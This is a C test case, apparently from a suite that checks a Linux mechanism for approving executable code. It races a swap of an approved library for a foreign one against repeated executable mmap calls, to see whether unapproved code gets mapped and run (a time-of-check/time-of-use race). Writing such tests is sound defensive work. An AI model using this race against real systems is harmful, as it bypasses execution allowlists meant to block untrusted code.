// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. One process exchanges an approved and a foreign library without end while another
 * opens the approved name and maps it executable, for two seconds or until it was refused two
 * hundred times: the name is judged at one moment, the content mapped at another.
 * Source: 6.12 survey, "exchange"; CWE-367. Control: the foreign code runs.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "code.h"
#include "race.h"

static const char *approved, *fresh;
static int refused;

/* A file with the code at its beginning, for nobody but who maps it. */
static void drop_code(void)
{
	int fd = open(fresh, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);

	if (fd < 0 || write(fd, code_1337, sizeof(code_1337)) != sizeof(code_1337) ||
	    ftruncate(fd, 4096))
		no_effect(errno);
	close(fd);
}

/* Is what is mapped under the approved name now foreign, and does it run? */
static bool maps_foreign(void)
{
	int fd = open(approved, O_RDONLY | O_CLOEXEC);
	bool done = false;
	void *memory;

	if (fd < 0)
		return false;
	memory = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	close(fd);
	if (memory == MAP_FAILED) {
		refused++;
		return false;
	}
	if (memcmp(memory, code_1337, sizeof(code_1337)) == 0)
		done = runs_code(memory);
	munmap(memory, 4096);
	return done;
}

void attack(void)
{
	const time_t end = time(NULL) + 2;
	bool done = false;
	pid_t pid;
	int error;

	approved = lab_path("open/libexchanged.so");
	fresh = lab_path("open/libexchanged.new");
	drop_code();
	pid = start_exchanging(fresh, approved);
	while (!done && refused < 200 && time(NULL) <= end)
		done = maps_foreign();
	error = stop_changing(pid);
	if (done)
		effect();
	no_effect(error ? error : EACCES);
}
